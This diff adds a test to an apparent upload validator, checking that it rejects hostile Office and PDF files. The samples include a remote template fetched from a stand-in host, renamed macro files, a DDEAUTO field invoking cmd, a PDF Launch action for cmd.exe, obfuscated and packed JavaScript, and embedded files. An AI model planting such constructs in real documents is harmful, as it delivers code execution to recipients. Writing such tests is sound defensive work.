@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+import zlib
 from typing import Any
 from uuid import uuid4
 
@@ -26,7 +27,7 @@ from abhiyan.programmes.models import Programme, ProgrammeUnit
 from abhiyan.programmes.models_materials import Material, MaterialVersion
 from abhiyan.programmes.queries import materials as found
 from abhiyan.programmes.refusals import NotCovered
-from abhiyan.programmes.rules.materials import LARGEST, file_name, kind_of
+from abhiyan.programmes.rules.materials import LARGEST, LARGEST_PART, file_name, kind_of
 from abhiyan.units.news import UnitsGoing
 
 from . import make
@@ -37,11 +38,12 @@ PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"picture" * 50 + b"IEND\xaeB`\x82"
 JPEG = b"\xff\xd8\xff\xe0" + b"picture" * 50 + b"\xff\xd9"
 
 
-def office_file(*parts: str) -> bytes:
+def office_file(*parts: str, **written: str) -> bytes:
+    """parts: their names. written: what stands in those of a name, else next to nothing."""
     made = io.BytesIO()
-    with zipfile.ZipFile(made, "w") as packed:
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
         for part in ("[Content_Types].xml", *parts):
-            packed.writestr(part, "<x/>")
+            packed.writestr(part, written.get(part.rpartition("/")[2].partition(".")[0], "<x/>"))
     return made.getvalue()
 
 
@@ -121,6 +123,39 @@ def test_a_file_is_known_by_what_is_in_it_not_by_its_name() -> None:
         office_file("word/document.xml", "xl/workbook.xml"),
     )
     assert [kind_of(one) for one in others] == [None] * len(others)
+
+
+def test_no_material_starts_or_fetches_anything() -> None:
+    rels, word = "word/_rels/document.xml.rels", "word/document.xml"
+    link = '<Relationship Type="http://x/relationships/%s" Target="http://a.example/e.dotm" TargetMode="External"/>'
+    whole = office_file(word, rels, document=link % "hyperlink")
+    assert kind_of(whole) == "docx", "a link that is clicked"
+    packed = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
+    inside = b"%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + packed + b"\nendstream\n%%EOF"
+    assert kind_of(PDF.replace(b"leaflet", b"<</OpenAction[3 0 R/XYZ null null 0]>>")) == "pdf", (
+        "where to begin"
+    )
+    others = {
+        "a template from elsewhere": office_file(word, rels, document=link % "attachedTemplate"),
+        "a picture from elsewhere": office_file(word, rels, document=link % "image"),
+        "macros under another name": office_file(
+            word, "word/MACROS.BIN", **{"[Content_Types]": "application/vnd.ms-word.document.macroEnabled"}
+        ),
+        "macros in small letters": office_file(word, "word/vbaproject.bin"),
+        "a command in a field": office_file(
+            word, document="<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>"
+        ),
+        "a sheet of elsewhere": office_file("xl/workbook.xml", "xl/externalLinks/externalLink1.xml"),
+        "words behind others": office_file(word, document="<!ENTITY a 'DDE'>"),
+        "far more than it looks": office_file(word, "word/media.xml", media=" " * (LARGEST_PART + 1)),
+        "a program": PDF.replace(b"leaflet", b"<</S/Launch/F(cmd.exe)>>"),
+        "a script": PDF.replace(b"leaflet", b"<</S/JavaScript/JS(1)>>"),
+        "a script spelt by numbers": PDF.replace(b"leaflet", b"<</S/J#61vaScript/JS(1)>>"),
+        "a script that is packed": inside,
+        "packed so that nobody can look": inside.replace(packed, b"\0" * 40),
+        "a file in the file": PDF.replace(b"leaflet", b"<</EmbeddedFiles 4 0 R>>"),
+    }
+    assert {why: kind_of(data) for why, data in others.items()} == dict.fromkeys(others)
 
 
 def test_a_downloaded_file_is_called_by_its_title_without_tricks() -> None:
